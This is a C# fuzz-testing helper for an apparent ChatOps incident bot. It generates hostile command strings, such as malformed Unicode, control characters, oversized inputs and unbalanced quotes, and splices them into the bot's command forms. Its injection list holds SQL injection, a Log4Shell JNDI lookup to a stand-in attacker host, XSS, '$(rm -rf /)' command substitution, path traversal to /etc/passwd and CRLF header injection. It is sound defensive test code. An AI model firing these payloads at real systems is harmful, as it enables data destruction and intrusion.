using System.Text;

namespace ChatOps.Testing;

/// <summary>
/// Seeded generator of hostile command text for fuzz tests: random ASCII and Unicode (RTL, emoji, combining marks,
/// lone surrogates), control characters and NUL, 100k-character strings, unbalanced quotes, flags without values,
/// injection attempts, and table-key-hostile characters in ids, alone or spliced into real command forms.
/// </summary>
public static class HostileCommands
{
    public const int VeryLong = 100_000;

    private static readonly string[] Forms =
    [
        "declare \"{0}\" --systems {1}", "declare \"{0}\" --sev {1}", "decision \"{0}\" --because \"{1}\"", "contain add \"{0}\" --undo \"{1}\"",
        "contain done {0}", "contain undo {0}", "contain keep {0} --reason \"{1}\"", "patch add {0} \"{1}\" --systems web01 --rollback \"r\"",
        "test {0} pass --evidence {1}", "deploy request {0} --window {1}", "deploy start {0}", "role approver {0}", "phase {0}",
        "status {0}", "help {0}", "system add {0} --owner {1}", "vuln add {0} --cvss {1}", "log {0}", "export {0}", "notify {0} \"{1}\"", "assess {0}", "checklist {0}", "verify {0}", "{0} {1}",
    ];

    private static readonly string[] Injections =
    [
        "'; DROP TABLE incidents; --", "\" OR 1=1 --", "{{7*7}}", "{{", "}}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>",
        "$(rm -rf /)", "`rm -rf /`", "../../etc/passwd", "%00", "%2F%5C", "\\u0000", "<at>bot</at>", "@here", "<!channel>", "*bold* _it_ ~x~",
        "javascript:alert(1)", "file:///etc/passwd", "PartitionKey eq ''", "' or PartitionKey ne '", "\r\nSet-Cookie: x=1",
    ];

    private static readonly string[] KeyHostile = ["a/b", "a\\b", "a#b", "a?b", "KB/1", "KB\\1", "KB#1", "KB?1", "INC-2026-0001/..", "x\u0001y", "x\u007fy", "x\u0000y", "\t", "/", "\\", "#", "?"];

    private static readonly string[] Flags = ["--systems", "--sev", "--because", "--undo", "--window", "--evidence", "--reason", "--owner", "--", "-", "--=", "--x=", "--systems=", "--because \""];

    /// <summary><paramref name="count"/> strings from <paramref name="seed"/>; every 1000th is 100k characters long.</summary>
    public static IReadOnlyList<string> Generate(int seed, int count)
    {
        var random = new Random(seed);
        var result = new List<string>(count);
        for (var i = 0; i < count; i++)
        {
            result.Add(i % 1000 == 999 ? Long(random) : One(random));
        }

        return result;
    }

    private static string One(Random random) => random.Next(10) switch
    {
        0 => Ascii(random, random.Next(0, 120)),
        1 => Unicode(random, random.Next(1, 60)),
        2 => Controls(random),
        3 => Pick(random, Injections),
        4 => Pick(random, KeyHostile),
        5 => Unbalanced(random),
        6 => Pick(random, Forms).Split(' ')[0] + " " + string.Join(' ', Enumerable.Range(0, random.Next(1, 4)).Select(_ => Pick(random, Flags))),
        _ => string.Format(System.Globalization.CultureInfo.InvariantCulture, Pick(random, Forms), Piece(random), Piece(random)),
    };

    private static string Piece(Random random) => random.Next(6) switch
    {
        0 => Pick(random, Injections),
        1 => Pick(random, KeyHostile),
        2 => Unicode(random, random.Next(1, 20)),
        3 => Controls(random),
        4 => Pick(random, Flags),
        _ => Ascii(random, random.Next(0, 30)),
    };

    private static string Long(Random random)
    {
        var unit = random.Next(3) switch
        {
            0 => "declare \"" + new string('x', VeryLong),
            1 => "decision \"" + string.Concat(Enumerable.Repeat("\u05d0\u0301\U0001F600", VeryLong / 4)) + "\" --because \"b\"",
            _ => Ascii(random, VeryLong),
        };
        return unit.Length > VeryLong ? unit[..VeryLong] : unit;
    }

    private static string Ascii(Random random, int length)
    {
        var chars = new char[length];
        for (var i = 0; i < length; i++)
        {
            chars[i] = (char)random.Next(0x20, 0x7f);
        }

        return new string(chars);
    }

    private static string Unicode(Random random, int length)
    {
        var builder = new StringBuilder();
        for (var i = 0; i < length; i++)
        {
            switch (random.Next(8))
            {
                case 0: builder.Append((char)random.Next(0x0590, 0x0700)); break; // Hebrew, Arabic (RTL)
                case 1: builder.Append('\u202e'); break; // right-to-left override
                case 2: builder.Append(char.ConvertFromUtf32(random.Next(0x1F300, 0x1FAFF))); break; // emoji (surrogate pair)
                case 3: builder.Append((char)random.Next(0x0300, 0x0370)); break; // combining marks
                case 4: builder.Append((char)random.Next(0xD800, 0xE000)); break; // lone surrogate
                case 5: builder.Append(Pick(random, ["\u200b", "\u200d", "\ufeff", "\u00a0", "\u3000", "\ufffd", "\uffff"])); break;
                case 6: builder.Append((char)random.Next(0x4e00, 0x9fff)); break; // CJK
                default: builder.Append((char)random.Next(0x20, 0x7f)); break;
            }
        }

        return builder.ToString();
    }

    private static string Controls(Random random)
    {
        var builder = new StringBuilder();
        for (var i = random.Next(1, 12); i > 0; i--)
        {
            builder.Append(random.Next(3) == 0 ? (char)random.Next(0, 0x20) : (char)random.Next(0x20, 0x7f));
        }

        return builder.Append('\0').ToString();
    }

    private static string Unbalanced(Random random) => random.Next(5) switch
    {
        0 => "declare \"" + Ascii(random, random.Next(0, 20)),
        1 => "decision \"x --because \"" + Ascii(random, 5),
        2 => "contain add \"a\" --undo \"",
        3 => "\"\"\"" + Ascii(random, 3) + "'",
        _ => "patch add KB1 \"" + Unicode(random, 5) + " --systems \"web01",
    };

    private static string Pick(Random random, string[] values) => values[random.Next(values.Length)];
}
